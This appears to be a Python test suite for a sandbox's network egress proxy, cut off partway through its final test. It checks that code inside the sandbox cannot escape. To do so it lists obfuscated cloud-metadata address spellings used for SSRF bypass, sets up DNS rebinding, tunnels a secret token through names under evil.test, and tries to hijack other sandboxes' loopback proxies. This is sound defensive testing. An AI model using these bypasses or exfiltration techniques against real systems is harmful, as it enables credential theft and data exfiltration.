"""N rows about where packets go: direct paths, addresses, names, other sandboxes, and a proxy that dies.

The oracle is the lab: sinks on everything private, a look at every packet, and every question to its name server."""

import json
import os
import secrets
import signal
import socket
import subprocess
import threading

import hostview
import netlab
from escapelib import PLACE, REFUSED, end_tree, finish, told
from lablib import LAB_ONE_EACH, LAB_TIERS, control_script, current, lab_cells, script_text
from netlab import API, API6, EVIL, METADATA, PRIVATE, PUBLIC_SINKS, RESOLVER

ALLOW = ["--allow", "api.lab.test"]
EVERYWHERE = [*METADATA, *PRIVATE, *PUBLIC_SINKS, RESOLVER]
WEB = {API, API6}
MANY = ["--requests", "100000", "--max-connections", "2000"]

DIRECT = r"""
for a in sys.argv[1:]:
    six = ":" in a
    for p in (80, 443, 53, 22, 6379, 8443):
        out[f"tcp {a} {p}"] = talk((a, p), "GET /direct HTTP/1.0\r\n\r\n")
    for p in (53, 123, 443, 5353):
        out[f"udp {a} {p}"] = attempt(lambda: send_udp(a, p))
    out[f"icmp {a}"] = attempt(lambda: send_icmp(a))
    for proto in (1, 6, 17, 47, 132, 255):
        out[f"raw{proto} {a}"] = attempt(lambda: send_raw(a, proto))
    out[f"tfo {a}"] = attempt(lambda: fast_open(a, 80))
    family = socket.AF_INET6 if six else socket.AF_INET
    for kind, proto, name in ((1, 262, "mptcp"), (5, 132, "sctp"), (2, 136, "udplite"), (6, 33, "dccp")):
        out[f"{name} {a}"] = attempt(lambda: connect_as(family, kind, proto, a, 80))
"""


@lab_cells()
def test_N01_nothing_leaves_by_a_direct_path(cell, lab):
    """Every kind of socket to every kind of address, without rules and with some: no packet, no question."""
    watch = lab.watch()
    shown = control_script(DIRECT, EVERYWHERE[:6], user=cell.user)
    hostview.wait_for(lambda: len(watch.sink()) > 60)
    assert sum(v.startswith("HTTP/1.1 200") for v in shown.values()) >= 20 and len(watch.sink()) > 60, "control"
    assert {p for p, _, _ in watch.reached()} >= {"tcp", "udp"}, "control: packets are seen"
    for options in ([], ALLOW):
        watch.again()
        answer = cell.script(DIRECT, options, EVERYWHERE)
        through = {k: v for k, v in answer.out.items() if "SINK" in v}
        assert not through, through
        watch.nothing()


TRICKY_CONNECT = r"""
def odd(name, family, address):
    def run():
        with blocking(family) as s:
            raw_connect(s.fileno(), address)
            s.sendall(b"GET /odd HTTP/1.0\r\nHost: x\r\n\r\n")
            return s.recv(200).decode("latin-1")
    out[name] = attempt(run)

A, FIRST = sys.argv[1], (sys.argv[2], int(sys.argv[3]))
odd("plain", socket.AF_INET, sockaddr4(A, 80))
odd("family unspec", socket.AF_INET, sockaddr4(A, 80, 0))
odd("long address", socket.AF_INET, sockaddr4(A, 80) + b"x" * 100)
odd("mapped", socket.AF_INET6, sockaddr6("::ffff:" + A, 80))
odd("scope", socket.AF_INET6, sockaddr6("fd00:77::7", 80, 1))
odd("v4 address on a v6 socket", socket.AF_INET6, sockaddr4(A, 80))
odd("nat64", socket.AF_INET6, sockaddr6("64:ff9b::" + A, 80))
odd("6to4", socket.AF_INET6, sockaddr6("2002:a0d:d0d::1", 80))
odd("compatible", socket.AF_INET6, sockaddr6("::" + A, 80))
odd("zero", socket.AF_INET, sockaddr4("0.0.0.0", 80))
odd("broadcast", socket.AF_INET, sockaddr4("255.255.255.255", 80))

# An address that changes while somebody reads it.
buf = ctypes.create_string_buffer(sockaddr4(*FIRST), 16)
other, first = sockaddr4(A, 80), sockaddr4(*FIRST)
stop = []
def flip():
    while not stop:
        ctypes.memmove(buf, other, 16)
        ctypes.memmove(buf, first, 16)
thread = threading.Thread(target=flip)
thread.start()
hits = 0
end = time.monotonic() + 1.0
while time.monotonic() < end:
    s = blocking()
    if ctypes.CDLL(None).connect(s.fileno(), buf, 16) == 0:
        try:
            hits += s.getpeername()[0] == A
        except OSError:
            pass
    s.close()
stop.append(1)
thread.join()
out["raced"] = hits

# Connect again on a descriptor that is connected already; disconnect; share it.
def again():
    s = blocking()
    raw_connect(s.fileno(), sockaddr4(*FIRST))
    try:
        raw_connect(s.fileno(), struct.pack("=H", 0) + bytes(14))
    except OSError:
        pass
    raw_connect(s.fileno(), sockaddr4(A, 80))
    s.sendall(b"GET /again HTTP/1.0\r\n\r\n")
    return s.recv(200).decode("latin-1")
out["disconnect, connect"] = attempt(again)
def twice():
    s = blocking()
    raw_connect(s.fileno(), sockaddr4(*FIRST))
    raw_connect(s.fileno(), sockaddr4(A, 80))
out["connect twice"] = attempt(twice)
def sendto():
    s = socket.socket()
    s.settimeout(WAIT)
    s.sendto(b"GET /sendto HTTP/1.0\r\n\r\n", (A, 80))
    return s.recv(200).decode("latin-1")
out["sendto"] = attempt(sendto)
"""


@lab_cells()
def test_N01_odd_addresses_and_changing_ones(cell, lab):
    """Unspecified families, mapped and embedded addresses, an address that another thread changes, reconnects."""
    watch = lab.watch()
    shown = control_script(TRICKY_CONNECT, ["10.13.13.13", "127.0.0.1", "80"], user=cell.user)
    assert "SINK" in shown["plain"] and "SINK" in shown["mapped"] and "SINK" in shown["disconnect, connect"], shown
    assert watch.sink() and shown["raced"], "control: the window is hit"
    watch.again()
    answer = cell.script(TRICKY_CONNECT, ALLOW, ["10.13.13.13", "127.0.0.1", "3128"])
    assert not [k for k, v in answer.out.items() if "SINK" in str(v)], answer.out
    watch.nothing()


METADATA_HOSTS = [
    "169.254.169.254", "169.254.169.254.", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "169.16689662",
    "0xa9.0xfe.0xa9.0xfe", "169.254.169.0254", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[::a9fe:a9fe]",
    "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::1]", "[fd00:ec2::254]", "[fd00:0ec2:0:0:0:0:0:254]", "[fd00:ec2::254%25lo]",
    "[fd20:ce::254]", "100.100.100.200", "192.0.0.192", "168.63.129.16", "169.254.170.2", "metadata.google.internal", "metadata",
    "instance-data", "instance-data.ec2.internal", "169.254.169.254.nip.io", "%31%36%39.254.169.254", "169。254。169。254",
    "api.lab.test@169.254.169.254", "169.254.169.254#api.lab.test", "169.254.169.254?api.lab.test"]

EVERY_WAY = r"""
for h in json.loads(sys.argv[1]):
    h = h.encode().decode("latin-1")
    out["absolute " + h] = by_proxy(f"http://{h}/latest", h)
    out["absolute, other Host " + h] = by_proxy(f"http://{h}/latest", "api.lab.test")
    out["Host only " + h] = by_proxy("http://api.lab.test/latest", h)
    out["connect 80 " + h] = by_connect(f"{h}:80", request("/latest", h))
    out["connect 443 " + h] = by_connect(f"{h}:443", request("/latest", h), tls="api.lab.test")
    out["gateway " + h] = by_gateway(f"http://{h}/latest")
    out["gateway https " + h] = by_gateway(f"https://{h}/latest")
    out["transparent, Host " + h] = by_name("api.lab.test", 80) if 0 else talk(("api.lab.test", 80), request("/latest", h))
    out["lookup " + h] = lookup(h.strip("[]"))
    out["origin form " + h] = talk(PROXY, request("/latest", h))
"""


def quiet_hosts(hosts):
    """The script's arguments."""
    return [json.dumps(hosts)]


@lab_cells()
def test_N02_metadata(cell, lab):
    """The metadata services by address, by name and in every spelling, by every way in."""
    shown = control_script('out["x"] = talk(("169.254.169.254", 80), request("/latest", "x"))', user=cell.user)
    assert "SINK" in shown["x"], "control: it answers where nothing guards it"
    watch = lab.watch()
    answer = cell.script(EVERY_WAY, ALLOW, quiet_hosts(METADATA_HOSTS))
    good = {k: v for k, v in answer.out.items() if "SINK" in v or "HTTP/1.1 200" in v}
    assert not good, good
    watch.only(*WEB)
    assert set(watch.names()) <= {"api.lab.test"}
    assert not watch.bytes(), watch.bytes()[:300]
    assert answer.audited("169.254.169.254"), answer.denials


@lab_cells()
def test_N02_only_a_pin_leads_there(cell, lab):
    """Only the operator's own word for that very address opens it: a pinned name, or a rule that is the address. Its
    neighbours, and names that lead to it, stay closed."""
    get = 'out["x"] = by_proxy("http://%s/latest", "%s")'
    lab.dns.zone["lead.rebind.test"] = ["169.254.169.254"]
    for rule in ("169.254.169.253", "169.254.0.1:80", "10.0.0.1", "meta.lab.test:80=169.254.169.253", "lead.rebind.test"):
        watch = lab.watch()
        code = "\n".join(get.replace('"x"', f'"{h}"') % (h, h) for h in ("169.254.169.254", "lead.rebind.test", "10.13.13.13", "127.0.0.1", "[::1]"))
        result = cell.run(cell.script_command(code), ["--allow", rule])
        assert result.rc == REFUSED or "SINK" not in result.out, result.out[:300]
        assert not watch.sink(), rule
    watch = lab.watch()
    answer = cell.script(get % ("meta.lab.test", "meta.lab.test"), ["--allow", "meta.lab.test:80=169.254.169.254"])
    assert "SINK" in answer["x"] and watch.sink(), "control: with the operator's word it works"
    assert not watch.names(), "a pinned name is not looked up"


LEADS = r"""
for h in json.loads(sys.argv[1]):
    out["proxy " + h] = by_proxy(f"http://{h}/lead", h)
    out["connect " + h] = by_connect(f"{h}:80", request("/lead", h))
    out["gateway " + h] = by_gateway(f"http://{h}/lead")
    out["transparent " + h] = by_name(h, 80, "/lead")
    out["tls " + h] = by_connect(f"{h}:443", request("/lead", h), tls=h)
"""


@lab_cells()
def test_N03_allowed_names_that_lead_to_private_addresses(cell, lab):
    """Each class of address, directly, through an alias, and beside a public one."""
    zone = {}
    for i, address in enumerate([*METADATA, *PRIVATE]):
        zone[f"p{i}.rebind.test"] = [address]
        zone[f"hidden{i}.elsewhere.test"] = [address]
        zone[f"c{i}.rebind.test"] = [f"=hidden{i}.elsewhere.test"]
    zone["m0.rebind.test"] = [API, "10.13.13.13"]
    zone["m1.rebind.test"] = ["10.13.13.13", API]
    zone["m2.rebind.test"] = [API, "fd00:77::7"]
    zone["m3.rebind.test"] = ["=m0.rebind.test"]
    zone["good.rebind.test"] = ["=api.lab.test"]
    lab.dns.zone.update(zone)
    names = [n for n in zone if n.endswith("rebind.test")]
    shown = control_script('out["x"] = by_name("p0.rebind.test", 80); out["c"] = by_name("c9.rebind.test", 80)')
    assert "SINK" in shown["x"] and "SINK" in shown["c"], "control"
    watch = lab.watch()
    answer = cell.script(LEADS, ["--allow", "*.rebind.test", "--requests", "100000"], [json.dumps(names)])
    bad = {k: v[:80] for k, v in answer.out.items() if "SINK" in v}
    assert not bad, bad
    watch.only(*WEB)
    assert "HTTP/1.1 200" in answer["proxy good.rebind.test"] and "HTTP/1.1 200" in answer["transparent good.rebind.test"]
    assert all("HTTP/1.1 200" not in answer[f"proxy {kind}{i}.rebind.test"] for kind in "pc" for i in range(len(PRIVATE)))
    assert answer.audited("address"), answer.denials[:3]


REBIND = r"""
for i in range(25):
    out[f"proxy {i}"] = by_proxy("http://turn.rebind.test/", "turn.rebind.test")
    out[f"transparent {i}"] = by_name("turn.rebind.test", 80)
    out[f"connect {i}"] = by_connect("once.rebind.test:80", request("/", "once.rebind.test"))
"""


@lab_cells()
def test_N04_rebinding(cell, lab):
    """Answers that change with every question: what was checked is what is dialled."""
    def script():
        lab.dns.counts.clear()
        lab.dns.zone["turn.rebind.test"] = lambda nth: [API] if nth % 2 == 0 else ["10.13.13.13"]
        lab.dns.zone["once.rebind.test"] = lambda nth: [API] if nth == 0 else ["169.254.169.254"]
    script()
    watch = lab.watch()
    shown = control_script('\nfor i in range(4): out[str(i)] = by_name("turn.rebind.test", 80)')
    assert any("SINK" in v for v in shown.values()), "control: the name turns"
    script()
    watch.again()
    answer = cell.script(REBIND, ["--allow", "*.rebind.test", "--requests", "100000"])
    assert not [k for k, v in answer.out.items() if "SINK" in v]
    watch.only(*WEB)
    assert any("HTTP/1.1 200" in v for v in answer.out.values()), "the public answers are used"


TUNNEL = r"""
T = sys.argv[1]
names = [f"{T}{i}.{zone}" for i, zone in enumerate(["evil.test", "lab.test", "api.lab.test", "x.y.z.evil.test", "test"])]
for n in names:
    out["lookup " + n] = lookup(n)
    out["lookup6 " + n] = lookup(n, socket.AF_INET6)
    for server in ("127.0.0.1", sys.argv[2], "8.8.8.8", "::1", "127.0.0.53"):
        for kind in (1, 28, 16, 5, 15, 33, 10, 255, 2, 12, 65):
            out[f"udp {server} {kind} {n}"] = ask(server, question(n, kind))
        out[f"tcp {server} {n}"] = ask(server, question(n), "tcp")
        out[f"dot {server} {n}"] = ask(server, question(n), "tcp", 853)
    out["absolute " + n] = by_proxy(f"http://{n}/", n)
    out["connect " + n] = by_connect(f"{n}:443", "x")
    out["gateway " + n] = by_gateway(f"http://{n}/")
    out["host " + n] = talk(("api.lab.test", 80), request("/", n))
    out["sni " + n] = by_connect("api.lab.test:443", request("/", n), tls=n)
    out["sni direct " + n] = talk(("api.lab.test", 443), request("/", n), tls=n)
    out["socks " + n] = talk(PROXY, b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(n)]) + n.encode() + b"\0\x50", wait=BRIEF)
    out["ftp " + n] = by_proxy(f"ftp://{n}/", n)
# A message with two questions, with a compressed name, with a name in its additional section.
q = question("api.lab.test")
two = q[:4] + struct.pack("!H", 2) + q[6:] + question(names[0])[12:]
out["two questions"] = ask("127.0.0.1", two)
out["update"] = ask("127.0.0.1", question(names[0], flags=0x2800))
out["chaos"] = ask("127.0.0.1", question(names[0], klass=3))
out["upper"] = ask("127.0.0.1", question(names[0].upper()))
out["good"] = lookup("api.lab.test")
out["good twice"] = by_name("api.lab.test", 80)
"""


@lab_cells()
def test_N12_names_carry_nothing_out(cell, lab):
    """Data in names: by the resolver, by hand over UDP, TCP and TLS ports, in every target of the proxy."""
    token = "T" + secrets.token_hex(10)
    watch = lab.watch()
    control_script(f'out["x"] = lookup("{token}.evil.test"); out["y"] = ask("{RESOLVER}", question("{token}y.evil.test"))',
                   user=cell.user)
    assert any(token.lower() in n for n in watch.names()), "control: the name server hears it"
    watch.again()
    answer = cell.script(TUNNEL, [*ALLOW, "--requests", "100000"], [token, RESOLVER])
    carried = [n for n in watch.names() if n != "api.lab.test"]
    assert not carried, carried
    assert not watch.sink() and not [r for r in watch.reached() if r[1] not in WEB]
    assert token.encode() not in watch.bytes() and token.lower().encode() not in watch.bytes()
    assert "HTTP/1.1 200" in answer["good twice"], answer["good twice"]
    found = {k: v for k, v in answer.out.items() if token in k and k.startswith(("lookup", "udp", "tcp"))
             and not isinstance(v, str) and (isinstance(v, list) or v["answers"])}
    assert not found, found


@lab_cells()
def test_N12_a_wildcard_answers_without_asking(cell, lab):
    """Looking up what a wildcard allows asks nobody: only a connection does."""
    watch = lab.watch()
    answer = cell.script('for i in range(20): out[str(i)] = lookup(f"label{i}.lab.test")', ["--allow", "*.lab.test:80"])
    assert all(isinstance(v, list) for v in answer.out.values()), answer.out
    assert not watch.names() and not watch.reached()


IGNORE = r"""
for name in list(os.environ):
    if "proxy" in name.lower():
        out["was " + name] = os.environ.pop(name)
out["environment"] = json.dumps(dict(os.environ))
out["allowed"] = by_name("api.lab.test", 80)
out["other"] = by_name("evil.test", 80)
out["literal"] = talk((sys.argv[1], 80), request("/ignore", "evil.test"))
import urllib.request
for proxy in ("http://8.8.8.8:8080", f"http://{sys.argv[1]}:8080", "http://127.0.0.1:3128"):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy}))
    try:
        out["by " + proxy] = opener.open("http://evil.test/ignore", timeout=WAIT).read().decode("latin-1")
    except OSError as e:
        out["by " + proxy] = "!" + str(e)
"""


@lab_cells()
def test_N13_the_variables_are_not_the_guard(cell, lab):
    """Without, with other and with changed proxy variables the same rules hold; the caller's are not passed in."""
    secret = "upstream" + secrets.token_hex(8)
    env = {n: f"http://user:{secret}@proxy.corp.test:3128" for n in
           ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY", "all_proxy", "FTP_PROXY")}
    env |= {"NO_PROXY": "evil.test," + secret, "no_proxy": "*"}
    shown = control_script(IGNORE, [EVIL], user=cell.user)
    assert "HTTP/1.1 200" in shown["other"] and "HTTP/1.1 200" in shown["literal"], "control"
    watch = lab.watch()
    answer = cell.script(IGNORE, ALLOW, [EVIL], env=env)
    assert secret not in answer.result.out + answer.result.err
    assert "HTTP/1.1 200" in answer["allowed"], answer["allowed"]
    for key in ("other", "literal", *(k for k in answer.out if k.startswith("by "))):
        assert "200" not in answer[key][:20] and '"method"' not in answer[key], (key, answer[key])
    watch.only(*WEB)
    assert answer["was HTTP_PROXY"] == answer["was HTTPS_PROXY"] == "http://127.0.0.1:3128"


def listening():
    """TCP ports on which anything in the lab listens on loopback or everywhere, and abstract sockets."""
    ports, names = set(), set()
    text = current().run("cat", "/proc/net/tcp", "/proc/net/tcp6").stdout
    for line in text.splitlines():
        parts = line.split()
        if len(parts) > 3 and parts[3] == "0A":
            address, port = parts[1].rsplit(":", 1)
            if address in ("0100007F", "00000000", "0" * 32, "00000000000000000000000001000000"):
                ports.add(int(port, 16))
    for line in current().run("cat", "/proc/net/unix").stdout.splitlines()[1:]:
        parts = line.split()
        if len(parts) > 7 and parts[7].startswith("@"):
            names.add(parts[7])
    return ports, names


STEAL = r"""
ports, names = json.loads(sys.argv[1]), json.loads(sys.argv[2])
wait = float(sys.argv[3]) if sys.argv[3:] else WAIT
for p in sorted({*ports, 3128, 3129, 8080, 1080, 53}):
    for a in ("127.0.0.1", "::1", "127.0.0.2", "0.0.0.0"):
        for auth in ([], ["Proxy-Authorization: Basic YnJpZzpicmln"]):
            out[f"{a} {p} {len(auth)}"] = talk((a, p), request("http://evil.test/stolen", "evil.test", headers=auth), wait=wait)
for n in names:
    def run():
        with socket.socket(socket.AF_UNIX) as s:
            s.connect("\0" + n[1:])
            return "CONNECTED"
    out["unix " + n] = attempt(run)
"""


@lab_cells()
def test_N14_the_proxy_of_another_sandbox(cell, lab):
    """A neighbour may go to evil.test; what it may, its channel alone carries."""
    start = script_text('print(by_proxy("http://evil.test/mine", "evil.test")[:12], flush=True); sys.stdin.read(); out.clear()')
    neighbour = cell.start(["/usr/bin/python3", "-c", start], ["--allow", "evil.test"], json_out=False,
                           stdin=subprocess.PIPE)
    try:
        watch = lab.watch()
        assert neighbour.stdout.readline().startswith(b"HTTP/1.1 200"), "control: the neighbour gets there"
        assert watch.requests(EVIL)
        ports, names = listening()
        watch.again()
        answer = cell.script(STEAL, ALLOW, [json.dumps(sorted(ports)), json.dumps(sorted(names))])
        good = {k: v[:60] for k, v in answer.out.items() if "HTTP/1.1 200" in v or v == "CONNECTED"}
        assert not good, good
        assert not watch.requests(EVIL) and not watch.sink()
        # Nor from the host, by whatever listens there; what only one process may use gives others no answer.
        host = control_script(STEAL, [json.dumps(sorted(ports)), json.dumps([]), "0.4"], user="user")
        assert not watch.requests(EVIL), "somebody on the host used the sandbox's proxy"
        assert not [k for k, v in host.items() if '"method"' in v]
    finally:
        end_tree(neighbour)


@lab_cells([c for c in LAB_TIERS if not c.container])
def test_N14_a_host_process_races_the_broker(cell, lab):
    """Others on the host connect to every loopback listener as soon as it appears: none is served in the code's place."""
    stop, tried = threading.Event(), [0]

    def race():
        def run():
            while not stop.is_set():
                with open("/proc/thread-self/net/tcp") as table:
                    ports = {int(x.split()[1].split(":")[1], 16) for x in table.read().splitlines()[1:] if x.split()[3] == "0A"
                             and x.split()[1].startswith("0100007F")}
                for port in ports - set(netlab.SINK_PORTS_TCP):
                    try:
                        with socket.create_connection(("127.0.0.1", port), 1) as s:
                            s.sendall(b"GET http://api.lab.test/intruder HTTP/1.1\r\nHost: api.lab.test\r\n\r\n")
                            s.settimeout(0.05)
                            tried[0] += 1
                            s.recv(100)
                    except OSError:
                        pass
        netlab.in_namespace(lab.net, run)

    threads = [threading.Thread(target=race) for _ in range(2)]
    watch = lab.watch()
    for t in threads:
        t.start()
    try:
        answer = cell.script('for i in range(150): out[str(i)] = status(by_proxy("http://api.lab.test/own", "api.lab.test"))',
                             [*ALLOW, "--requests", "100000"])
    finally:
        stop.set()
        for t in threads:
            t.join()
    assert b"/intruder" not in watch.bytes(), "a stranger spoke through the sandbox's proxy"
    assert list(answer.out.values()).count(200) >= 100, answer.out


@lab_cells()
def test_N18_a_listener_inside_is_not_reachable(cell, lab):
    """With a network of its own the code still cannot be called from the host or from a neighbour."""
    port = 20000 + secrets.randbelow(20000)
    options = [*ALLOW, "--allow", f"api.lab.test:{port}"]
    code = f"""
import select
s = socket.socket()
try:
    s.bind(("0.0.0.0", {port})); s.listen()
    print("listens", flush=True)
    if s in select.select([s, sys.stdin], [], [])[0]: print("REACHED", flush=True)
except OSError as e:
    print("not", name_of(e), flush=True)
    sys.stdin.readline()
out.clear()"""
    process = cell.start(["/usr/bin/python3", "-c", script_text(code)], [*options, "--timeout", "300s"], json_out=False,
                         stdin=subprocess.PIPE)
    try:
        told(process, "\n")
        for address in ("127.0.0.1", "::1", API, RESOLVER):
            try:
                lab.connect(address, port, 0.3).close()
                reached = True
            except OSError:
                reached = False
            assert not reached, address
        neighbour = cell.script(f'out["x"] = talk(("127.0.0.1", {port}), "x")', ALLOW)
        assert neighbour["x"].startswith("!"), neighbour["x"]
        assert b"REACHED" not in process.communicate(b"\n", timeout=60)[0]
    finally:
        end_tree(process)


LOOPS = ["localhost", "localhost.", "LOCALHOST", "localhost.localdomain", "ip6-localhost", "brig", "host.docker.internal",
         "host.containers.internal", "gateway.docker.internal", "kubernetes.default.svc", "10.0.2.2", "10.0.2.3", "192.168.65.2",
         "172.17.0.1", "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "017700000001", "0", "0.0.0.0", "[::]", "[::1]",
         "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:0:0:1]", "127.8.8.8", "[::1%25lo]", "127.0.0.1.nip.io", "lab.localhost"]

LOOP_WAYS = r"""
for h in json.loads(sys.argv[1]):
    for p in (80, 22, 6379, 2375, 8080):
        out[f"absolute {h} {p}"] = by_proxy(f"http://{h}:{p}/loop", f"{h}:{p}")
        out[f"connect {h} {p}"] = by_connect(f"{h}:{p}", request("/loop", h))
        out[f"direct {h} {p}"] = talk((h.strip("[]"), p), request("/loop", h))
    out[f"gateway {h}"] = by_gateway(f"http://{h}/loop")
    out[f"host {h}"] = talk(("api.lab.test", 80), request("/loop", h))
"""


@lab_cells()
def test_N19_host_loopback(cell, lab):
    """Services on the host's loopback by every name and spelling of it, by every way."""
    shown = control_script('out["x"] = talk(("127.0.0.1", 6379), request("/loop", "x"))\nout["y"] = talk(("::1", 80), request("/loop", "x"))',
                           user=cell.user)
    assert "SINK" in shown["x"] and "SINK" in shown["y"], "control"
    watch = lab.watch()
    answer = cell.script(LOOP_WAYS, [*ALLOW, "--requests", "100000"], quiet_hosts(LOOPS))
    good = {k: v[:80] for k, v in answer.out.items() if "SINK" in v}
    assert not good, good
    watch.only(*WEB)
    assert set(watch.names()) <= {"api.lab.test"} and b"/loop" not in watch.bytes()


LITERAL = r"""
A, A6 = sys.argv[1:3]
for host in ("api.lab.test", "evil.test", A):
    out[f"absolute {host}"] = by_proxy(f"http://{A}/literal", host)
    out[f"absolute6 {host}"] = by_proxy(f"http://[{A6}]/literal", host)
    out[f"connect 80 {host}"] = by_connect(f"{A}:80", request("/literal", host))
    out[f"direct 80 {host}"] = talk((A, 80), request("/literal", host))
    out[f"direct6 80 {host}"] = talk((A6, 80), request("/literal", host))
    for sni in ("api.lab.test", "evil.test", ""):
        out[f"connect 443 {host} {sni}"] = by_connect(f"{A}:443", request("/literal", host), tls=sni)
        out[f"direct 443 {host} {sni}"] = talk((A, 443), request("/literal", host), tls=sni)
        out[f"direct6 443 {host} {sni}"] = talk((A6, 443), request("/literal", host), tls=sni)
    out[f"gateway {host}"] = by_gateway(f"http://{A}/literal")
# Addresses of the range that names stand behind, but that no name was given.
known = lookup("api.lab.test")
out["known"] = known
for a in ("198.18.0.1", "198.18.1.200", "198.19.255.254", "198.18.0.0", "fd62:7269:6700::7", "fd62:7269:6700::ffff",
          "fd62:7269:6701::1", "::ffff:198.18.1.200", "0.0.0.1"):
    if a not in known:
        out[f"stand-in {a}"] = talk((a, 80), request("/literal", "api.lab.test"))
        out[f"stand-in tls {a}"] = talk((a, 443), request("/literal", "api.lab.test"), tls="api.lab.test")
"""


@lab_cells()
def test_N21_addresses_instead_of_names(cell, lab):
    """The address of an allowed name, with whatever Host and server name, and stand-ins that nobody was given."""
    watch = lab.watch()
    shown = control_script(LITERAL, [API, API6], user=cell.user)
    assert sum("HTTP/1.1 200" in str(v) for v in shown.values()) >= 9, "control: nothing but brig asks for names"
    watch.again()
    answer = cell.script(LITERAL, ALLOW, [API, API6])
    good = {k: v[:60] for k, v in answer.out.items() if "HTTP/1.1 200" in v}
    assert not good, good
    assert b"/literal" not in watch.bytes()
    watch.only()
    allowed = cell.script(f'out["x"] = by_proxy("http://{API}/literal", "{API}")\n'
                          f'out["y"] = talk(("{API}", 80), request("/literal", "{API}"))', ["--allow", f"{API}:80"])
    assert "HTTP/1.1 200" in allowed["x"] and "HTTP/1.1 200" in allowed["y"], "control: listed, it is reached"


RANGES = r"""
for a in sys.argv[1:]:
    at = f"[{a}]" if ":" in a else a
    out[f"connect {a}"] = status(by_connect(f"{at}:80", request("/range", at)))
    out[f"absolute {a}"] = status(by_proxy(f"http://{at}/range", at))
    out[f"direct {a}"] = status(talk((a, 80), request("/range", at)))
for name in ("api.lab.test", "evil.test"):
    out[f"connect {name}"] = status(by_connect(f"{name}:80", request("/range", name)))
    out[f"absolute {name}"] = status(by_proxy(f"http://{name}/range", name))
    out[f"direct {name}"] = status(by_name(name, 80))
"""


@lab_cells(LAB_ONE_EACH)
def test_N21_ranges_of_addresses(cell, lab):
    """A range opens the addresses in it and no name. Blocked, it is closed for names and pins as well, whatever allows them."""
    def reached(*options):
        answer = cell.script(RANGES, [*options, *MANY], [API, API6, EVIL, PRIVATE[0]])
        got = {}
        for way, code in answer.out.items():
            got.setdefault(way.split()[1], set()).add(code == 200)
        assert all(len(each) == 1 for each in got.values()), f"the ways in disagree: {answer.out}"
        return {host for host, each in got.items() if each == {True}}, answer

    watch = lab.watch()
    assert reached("--allow", "93.184.216.8/30:80")[0] == {API}
    watch.only(API)
    assert not watch.names(), "nobody asked for a name"
    assert reached("--allow", "93.184.216.0/24:80", "--allow", "2606:2800::/29")[0] == {API, API6, EVIL}, "control: a wider one"
    both = ("--allow", "api.lab.test:80", "--allow", "evil.test:80", "--allow", "93.184.216.0/24:80")
    assert reached(*both)[0] == {API, EVIL, "api.lab.test", "evil.test"}, "control: nothing is blocked"
    watch.again()
    only, answer = reached(*both, "--block", "93.184.216.8/30")
    assert only == {EVIL, "evil.test"} and answer.audited("blocked"), answer.denials[:3]
    assert reached("--allow", f"api.lab.test:80={API}")[0] == {"api.lab.test"}, "control: a pin"
    assert reached("--allow", f"api.lab.test:80={API}", "--block", "93.184.216.0/24")[0] == set()
    watch.again()
    # Some of these are public, so that it is taken; the private ones take a pin all the same.
    assert reached("--allow", "8.0.0.0/6:80")[0] == set() and not watch.sink(), "private addresses take a pin"
    assert reached("--allow", f"{PRIVATE[0]}:80={PRIVATE[0]}", "--allow", "8.0.0.0/6:80")[0] == {PRIVATE[0]}, "control"
    # What is no range, or all of them, is said so.
    for spec in ("10.0.0.0/8", "10.0.0.5:22", "93.184.216.10/24", "0.0.0.0/0", "93.184.216.0/33", "lab.test/24", "93.184.216.0/24=93.184.216.10", "93.184.216.0/24/x"):
        result = cell.run(["/bin/echo", "ran"], ["--allow", spec])
        assert result.rc == REFUSED and '"ran\\n"' not in result.out, (spec, result)


# ---- N-20: fail closed ----

LOOPING = r"""
address = lookup("api.lab.test")[0]  # once: a resolver that gets no answer is slow
def round(wait):
    return [status(talk(PROXY, request("http://api.lab.test/beat", "api.lab.test"), wait=wait)),
            status(talk((address, 80), request("/beat", "api.lab.test"), wait=wait)),
            status(talk(("10.13.13.13", 80), request("/beat", "x"), wait=1)), status(talk(("8.8.8.8", 53), "x", wait=1)),
            attempt(lambda: send_udp("8.8.8.8", 53))]
print(json.dumps(round(WAIT)), flush=True)
for line in sys.stdin:  # now something is wrong with the proxy, and no answer is due
    print(json.dumps(round(1)), flush=True)
out.clear()
"""


def proxy_of(process):
    """The pids of this run's proxy (and of its keeper), by the program's name."""
    return [p for p in hostview.alive_below(process.pid)
            if "brig-proxy" in hostview.read(f"/proc/{p}/comm") or hostview.exe(p).endswith("brig-proxy")]


def start_looping(cell, options=ALLOW):
    process = cell.start(["/usr/bin/python3", "-c", script_text(LOOPING)], [*options, "--timeout", "300s"], json_out=False,
                         stdin=subprocess.PIPE)
    first = process.stdout.readline()
    assert first.strip(), process.stderr.read()[-2000:]
    return process, json.loads(first)


def next_round(process):
    """The next line of results, or None: the sandbox has ended."""
    try:
        process.stdin.write(b"\n")
        process.stdin.flush()
    except OSError:
        return None
    line = process.stdout.readline()
    return json.loads(line) if line.strip() else None


@lab_cells()
def test_N20_the_proxy_is_killed(cell, lab, diff):
    """kill -9 of brig-proxy: no network, by no path; nothing left."""
    watch = lab.watch()
    process, first = start_looping(cell)
    try:
        assert first[:2] == [200, 200], f"control: {first}"
        pids = proxy_of(process)
        assert pids, "the proxy is a process of its own"
        for pid in pids:
            os.kill(pid, signal.SIGKILL)
        assert hostview.wait_for(lambda: not proxy_of(process))
        watch.again()
        for _ in range(2):
            results = next_round(process)
            assert results is None or 200 not in results, results
        watch.nothing()
        assert not watch.requests()
        process.stdin.close()
        process.stdin = None
        result = finish(process)
        assert result.rc != 0 or "proxy" in result.err, f"nobody was told: {result}"
    finally:
        end_tree(process)


@lab_cells()
def test_N20_the_proxy_is_stopped(cell, lab, diff):
    """SIGSTOP: requests fail or wait, no other path opens; the deadline is met."""
    watch = lab.watch()
    process, first = start_looping(cell, [*ALLOW])
    pids = proxy_of(process)
    try:
        assert first[:2] == [200, 200] and pids, first
        for pid in pids:
            os.kill(pid, signal.SIGSTOP)
        watch.again()
        results = next_round(process)
        assert results is None or 200 not in results, results
        assert not watch.sink() and not watch.requests()
